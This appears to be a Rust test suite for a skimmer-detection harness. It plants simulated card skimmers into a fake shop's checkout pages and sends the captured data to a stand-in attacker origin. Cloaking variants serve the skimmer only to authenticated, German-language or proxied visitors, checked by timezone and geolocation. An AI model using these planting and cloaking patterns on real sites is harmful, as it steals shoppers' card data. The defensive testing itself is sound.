        assert!(page.body.contains(needle), "trade checkout lacks {needle}");
    }
    let wrong = send_with("GET", &base, "/b2b/checkout", &[("Cookie", "b2b_session=0000")], "").await;
    assert_eq!(wrong.status, 302);

    let script = get(&base, "/b2b/static/js/checkout.js").await.body;
    shop.plant_b2b_skimmer();
    shop.plant_b2b_skimmer();
    let infected = get(&base, "/b2b/static/js/checkout.js").await.body;
    let exfil = shop.url(Origin::Attacker, B2B_SKIMMER_EXFIL_PATH);
    assert!(infected.starts_with(&script) && infected.contains(&exfil));
    assert_eq!(infected.matches(&exfil).count(), 1, "planting twice leaves one skimmer");
    assert_parses("planted trade checkout script", &infected);
    let pixel = get(&shop.base(Origin::Attacker), "/b2bc?d=x").await;
    assert_eq!((pixel.status, pixel.header("access-control-allow-origin")), (200, Some("*")));
}

#[tokio::test]
async fn basic_auth_checkout_answers_401_without_the_credentials() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let url = shop.serve_basic_auth("wholesale", "s3cret:pass");
    assert_eq!(url, shop.url(Origin::Shop, "/basic/checkout"));
    let encode = |pair: &str| format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(pair));
    let right = encode("wholesale:s3cret:pass");

    for auth in [None, Some(encode("wholesale:wrong")), Some("Bearer abc".to_string())] {
        let headers: Vec<(&str, &str)> = auth.iter().map(|a| ("Authorization", a.as_str())).collect();
        for path in ["/basic/checkout", "/basic/static/js/checkout.js", "/basic/order"] {
            let refused = send_with("GET", &base, path, &headers, "").await;
            assert_eq!(refused.status, 401, "{path} {auth:?}");
            assert_eq!(refused.header("www-authenticate"), Some(r#"Basic realm="wholesale""#));
            assert!(!refused.body.contains("cc-number"));
        }
    }
    let page = send_with("GET", &base, "/basic/checkout", &[("Authorization", &right)], "").await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains(r#"autocomplete="cc-number""#) && page.body.contains(r#"id="cc-csc""#));
    assert!(inline_scripts(&page.body).is_empty(), "clean until planted");
    let script = send_with("GET", &base, "/basic/static/js/checkout.js", &[("authorization", &right)], "").await;
    assert_eq!(script.status, 200);

    shop.plant_basic_skimmer();
    shop.plant_basic_skimmer();
    assert_eq!(get(&base, "/basic/checkout").await.status, 401, "still gated");
    let page = send_with("GET", &base, "/basic/checkout", &[("Authorization", &right)], "").await;
    let scripts = inline_scripts(&page.body);
    assert_eq!(scripts.len(), 1);
    assert!(scripts[0].contains(&shop.url(Origin::Attacker, BASIC_SKIMMER_EXFIL_PATH)));
    assert_eq!(get(&shop.base(Origin::Attacker), "/basicc?d=x").await.header("access-control-allow-origin"), Some("*"));
}

#[tokio::test]
async fn region_gated_skimmer_is_served_to_german_visitors_only() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let url = shop.serve_region_gated();
    assert_eq!(url, shop.url(Origin::Shop, "/de/checkout"));
    let code = shop.region_skimmer_code();
    assert!(code.contains("timeZone !== 'Europe/Berlin'") && code.contains("navigator.geolocation.getCurrentPosition"));
    assert!(code.contains(&shop.url(Origin::Attacker, REGION_SKIMMER_EXFIL_PATH)));

    for language in [None, Some("en-US,en;q=0.9"), Some("fr-FR,de;q=0.8"), Some("en-DE")] {
        let headers: Vec<(&str, &str)> = language.iter().map(|l| ("Accept-Language", *l)).collect();
        let page = send_with("GET", &base, "/de/checkout", &headers, "").await;
        assert_eq!(page.status, 200);
        assert!(page.body.contains(r#"autocomplete="cc-number""#));
        assert!(inline_scripts(&page.body).is_empty(), "{language:?} got a skimmer");
        assert!(!page.body.contains(&shop.base(Origin::Attacker)));
    }
    for language in ["de-DE,de;q=0.9", "de", "DE-at"] {
        let page = send_with("GET", &base, "/de/checkout", &[("Accept-Language", language)], "").await;
        assert_eq!(page.status, 200);
        assert!(page.body.contains(r#"<html lang="de">"#) && page.body.contains(r#"id="cc-number""#));
        assert_eq!(inline_scripts(&page.body), vec![format!("\n{code}\n")], "{language}");
    }
    assert_eq!(get(&shop.base(Origin::Attacker), "/dec?d=x").await.header("access-control-allow-origin"), Some("*"));
}

/// Reads one response from a keep-alive connection (its body by `Content-Length`).
async fn read_one(stream: &mut tokio::net::TcpStream) -> Reply {
    let mut raw = Vec::new();
    let mut byte = [0u8; 1];
    while !raw.ends_with(b"\r\n\r\n") {
        assert_eq!(stream.read(&mut byte).await.unwrap(), 1, "connection closed mid-head");
        raw.push(byte[0]);
    }
    let head = parse(&raw);
    let length: usize = head.header("content-length").map(|l| l.parse().unwrap()).unwrap_or(0);
    let mut body = vec![0; length];
    stream.read_exact(&mut body).await.unwrap();
    raw.extend_from_slice(&body);
    parse(&raw)
}

#[tokio::test]
async fn proxy_forwards_keep_alive_requests_and_only_proxied_visitors_get_the_skimmer() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let host = shop.host(Origin::Shop);
    let url = shop.serve_proxy_gated();
    assert_eq!(url, shop.url(Origin::Shop, "/proxied/checkout"));
    shop.serve_m2_shop();
    let proxy = Proxy::start_in_background().unwrap();
    assert!(proxy.url().starts_with("http://127.0.0.1:"));

    let direct = get(&base, "/proxied/checkout").await;
    assert_eq!(direct.status, 200);
    assert!(inline_scripts(&direct.body).is_empty(), "a direct visitor gets the clean page");

    // Three requests on one connection, as Chromium sends them: absolute-form, keep-alive.
    let mut stream = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
    let page_request = format!(
        "GET {url} HTTP/1.1\r\nHost: {host}\r\nProxy-Connection: keep-alive\r\nUser-Agent: Test\r\nAccept-Language: en\r\n\r\n"
    );
    stream.write_all(page_request.as_bytes()).await.unwrap();
    let page = read_one(&mut stream).await;
    assert_eq!(page.status, 200);
    assert_eq!(page.header("via"), Some("1.1 skimwatch-test-proxy"));
    assert_eq!(page.header("connection"), Some("keep-alive"));
    assert_eq!(page.header("cache-control"), Some("no-store"));
    assert_eq!(inline_scripts(&page.body), vec![format!("\n{}\n", shop.proxy_skimmer_code())]);
    assert!(page.body.contains(&shop.url(Origin::Attacker, PROXY_SKIMMER_EXFIL_PATH)));

    let form = "form_key=hQ7xV2mK9pL4sT1w&qty=1";
    let add = format!(
        "POST {base}/m2/checkout/cart/add/ HTTP/1.1\r\nHost: {host}\r\nProxy-Connection: keep-alive\r\nCookie: form_key=hQ7xV2mK9pL4sT1w\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
        form.len()
    );
    stream.write_all(add.as_bytes()).await.unwrap();
    let added = read_one(&mut stream).await;
    assert_eq!(added.status, 200, "{}", added.body);
    assert!(added.header("set-cookie").unwrap().starts_with("m2_cart="));

    let missing = format!("GET {base}/m2/checkout/ HTTP/1.1\r\nHost: {host}\r\nProxy-Connection: close\r\n\r\n");
    stream.write_all(missing.as_bytes()).await.unwrap();
    let redirected = read_one(&mut stream).await;
    assert_eq!((redirected.status, redirected.header("connection")), (302, Some("close")));
    let mut rest = Vec::new();
    stream.read_to_end(&mut rest).await.unwrap();
    assert!(rest.is_empty(), "the proxy closes after Connection: close");

    assert_eq!(
        proxy.requests(),
        vec![format!("GET {url}"), format!("POST {base}/m2/checkout/cart/add/"), format!("GET {base}/m2/checkout/"),]
    );
    let arrived: Vec<_> = shop.requests_to(Origin::Shop).into_iter().filter(|r| r.header("via").is_some()).collect();
    assert_eq!(arrived.len(), 3);
    assert_eq!(
        (arrived[0].path.as_str(), arrived[0].header("via")),
        ("/proxied/checkout", Some("1.1 skimwatch-test-proxy"))
    );
    assert_eq!((arrived[0].header("user-agent"), arrived[0].header("host")), (Some("Test"), Some(host.as_str())));
    assert!(arrived.iter().all(|r| r.header("proxy-connection").is_none()), "hop-by-hop headers stay with the proxy");
    assert_eq!((arrived[1].method.as_str(), arrived[1].body.as_str()), ("POST", form));

    // CONNECT (https) and hosts off loopback are refused; an origin that is down is a 502.
    let mut tunnel = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
    tunnel.write_all(b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n").await.unwrap();
    assert_eq!(read_one(&mut tunnel).await.status, 405);
    let mut outside = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
    outside.write_all(b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n").await.unwrap();
    assert_eq!(read_one(&mut outside).await.status, 403, "the test proxy stays on loopback");
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let mut down = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
    down.write_all(format!("GET http://{closed}/ HTTP/1.1\r\nHost: {closed}\r\n\r\n").as_bytes()).await.unwrap();
    assert_eq!(read_one(&mut down).await.status, 502);

    let addr = proxy.url().trim_start_matches("http://").to_string();
    drop(proxy);
    assert!(std::net::TcpStream::connect(addr).is_err(), "proxy still accepting after drop");
    assert_eq!(get(&shop.base(Origin::Attacker), "/pxc?d=x").await.header("access-control-allow-origin"), Some("*"));
}

#[tokio::test]
async fn every_journey_page_and_skimmer_parses() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    shop.serve_m2_shop();
    shop.serve_login_gated("u", "p");
    shop.serve_basic_auth("u", "p");
    shop.serve_region_gated();
    shop.serve_proxy_gated();
    shop.plant_m2_skimmer();
    shop.plant_b2b_skimmer();
    shop.plant_basic_skimmer();
    for code in [shop.m2_skimmer_code(), shop.region_skimmer_code(), shop.proxy_skimmer_code()] {
        assert_parses("journey skimmer", &code);
        assert!(!code.contains("{{") && !code.contains("__GUARD__") && !code.contains("__ARM__"));
    }
    for (origin, path) in shop.paths() {
        let resource = shop.resource(origin, &path).unwrap();
        assert!(!resource.body.contains("{{"), "{path} has an unfilled placeholder");
        if resource.content_type.starts_with("text/javascript") {
            assert_parses(&format!("{origin} {path}"), &resource.body);
        }
        if resource.content_type.starts_with("text/html") {
            for script in inline_scripts(&resource.body) {
                assert_parses(&format!("inline script of {path}"), &script);
            }
        }
    }
    // The pages the server builds per request, with their skimmers in.
    let basic = format!("Basic {}", base64::engine::general_purpose::STANDARD.encode("u:p"));
    let pages = [
        ("/m2/checkout/", ("Cookie", "m2_cart=Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2"), 2),
        ("/m2/checkout/cart/", ("Cookie", "m2_cart=Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2"), 0),
        ("/b2b/login", ("Accept", "text/html"), 0),
        ("/basic/checkout", ("Authorization", basic.as_str()), 1),
        ("/de/checkout", ("Accept-Language", "de-DE,de;q=0.9"), 1),
        ("/proxied/checkout", ("Via", "1.1 skimwatch-test-proxy"), 1),
    ];
    for (path, header, expected) in pages {
        let page = send_with("GET", &base, path, &[header], "").await;
        assert_eq!(page.status, 200, "{path}");
        let scripts = inline_scripts(&page.body);
        assert_eq!(scripts.len(), expected, "inline scripts of {path}");
        for script in scripts {
            assert_parses(&format!("served inline script of {path}"), &script);
        }
    }
}
